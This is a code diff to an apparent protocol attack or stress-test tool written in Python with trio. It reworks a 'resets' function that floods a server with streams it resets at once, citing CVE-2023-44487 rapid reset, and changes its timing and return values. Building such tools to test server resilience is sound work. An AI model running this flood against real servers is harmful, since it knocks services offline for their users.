@@ -9,7 +9,6 @@ from __future__ import annotations
 import json
 import os
 import sys
-import time
 from collections.abc import AsyncIterator, Awaitable, Callable
 from contextlib import asynccontextmanager, suppress
 from typing import Any
@@ -193,26 +192,21 @@ async def resets(attack: Attack) -> dict[str, Any]:
     """Streams opened, given a protocol and reset at once, as fast as can be (CVE-2023-44487's way)."""
     upgraded = await attack.secured()
     sent, said = 0, GREETING + encode(ping.PROTOCOL) + bytes(32)
-    begun = time.monotonic()
+    reason: list[int | str] = []
     ready()
-    reason = None
-    with suppress(*_LOST):
+
+    async def read() -> None:
+        reason.append(await _went_away(upgraded))
+
+    with trio.move_on_after(attack.seconds):
         async with trio.open_nursery() as nursery:
-
-            async def read() -> None:
-                nonlocal reason
-                reason = await _went_away(upgraded)
-                nursery.cancel_scope.cancel()
-
             nursery.start_soon(read)
-            for id in range(1, 2 * attack.count, 2):
-                opened = frame(DATA, SYN, id, len(said)) + said + frame(WINDOW_UPDATE, RST, id, 0)
-                await upgraded.secure.send_all(opened)
-                sent += 1
-            with trio.move_on_after(5):
-                await trio.sleep_forever()
-            nursery.cancel_scope.cancel()
-    return {"sent": sent, "reason": reason, "seconds": time.monotonic() - begun}
+            with suppress(*_LOST):
+                for id in range(1, 2 * attack.count, 2):
+                    opened = frame(DATA, SYN, id, len(said)) + said + frame(WINDOW_UPDATE, RST, id, 0)
+                    await upgraded.secure.send_all(opened)
+                    sent += 1
+    return {"sent": sent, "reason": reason[0] if reason else "none"}
 
 
 async def ignore_window(attack: Attack) -> dict[str, Any]:
